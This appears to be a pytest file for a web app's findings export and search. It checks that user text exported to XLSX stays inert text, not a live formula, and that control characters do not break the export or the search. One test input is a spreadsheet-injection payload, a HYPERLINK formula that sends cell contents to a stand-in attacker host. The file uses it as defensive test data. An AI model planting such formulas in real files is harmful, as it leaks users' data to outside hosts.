"""The findings export writes user text as text (never a live formula) and never fails on stored
text; the findings search takes any query string (issue #21, items 1, 2 and 3)."""

import io

import pytest
from openpyxl import load_workbook

from webapp.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _export(client, query=""):
    r = client.get(f"/findings/export.xlsx{query}")
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    return load_workbook(io.BytesIO(r.data))


def test_user_text_is_written_as_text_not_as_a_formula(client, auth, world):
    f = world["findings"][0]
    f.title, f.description, f.impact, f.responsible_person = FORMULA, "+1+1", "@SUM(A1)", "-2+3"
    db.session.commit()
    auth.login("manager")
    wb = _export(client, "?q=%3DHYPER")  # the filter sheet repeats the query: text too
    ws = wb.worksheets[0]
    row = next(r for r in ws.iter_rows(min_row=2) if r[7].value == "-2+3")
    for cell, expected in zip((row[0], row[1], row[2], row[7]), (FORMULA, "+1+1", "@SUM(A1)", "-2+3"), strict=True):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    filters = {r[0].value: r[1] for r in wb.worksheets[1].iter_rows(min_row=2)}
    assert (filters["搜索"].value, filters["搜索"].data_type) == ("=HYPER", "s")  # labels, not parameter names


def test_text_stored_with_control_characters_still_exports(client, auth, world):
    """Text stored before the door refused control characters must not break anyone's export
    (NUL aside: PostgreSQL never stored one)."""
    f = world["findings"][0]
    f.title, f.description = "消防\x0b通道\x01堵塞", "第一行\n第二行\x1b[31m\x7f"
    db.session.commit()
    auth.login("manager")
    ws = _export(client).worksheets[0]
    values = {r[0] for r in ws.iter_rows(min_row=2, values_only=True)}
    assert "消防通道堵塞" in values
    assert "第一行\n第二行[31m" in {r[1] for r in ws.iter_rows(min_row=2, values_only=True)}


@pytest.mark.parametrize("path", ["/findings/", "/findings/export.xlsx"])
@pytest.mark.parametrize("q", ["%00", "a%00b", "%0B%1F", "%ED%A0%80", "%C2%85x"])
def test_search_with_control_characters_is_not_a_server_error(client, auth, world, path, q):
    auth.login("manager")
    r = client.get(f"{path}?q={q}")
    assert r.status_code == 200
